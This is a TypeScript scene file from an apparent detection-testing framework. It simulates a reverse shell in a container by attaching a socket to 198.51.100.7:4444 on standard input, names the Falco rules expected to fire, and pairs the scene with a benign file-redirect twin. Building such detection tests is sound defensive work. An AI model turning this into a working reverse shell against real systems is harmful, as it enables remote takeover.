import { container, scene } from '../src/scenes/scene.ts';
import { attachFile, attachSocket, run } from '../src/scenes/steps.ts';

export default scene({
  name: 'socket-as-standard-stream',
  story:
    'A reverse shell begins: in a container a connection to the attacker takes the place of the standard input and output.',
  technique: 'T1059',
  place: container(),
  falco: ['Redirect STDOUT/STDIN to Network Connection in Container'],
  lanner: ['Network Socket Attached to Standard Stream'],
  steps: [run('exploit', { does: [attachSocket(0, '198.51.100.7', 4444)] })],
  twin: {
    because: 'a shell redirects its input from a file.',
    steps: [run('sh', { does: [attachFile(0, '/etc/hosts')] })],
  },
});
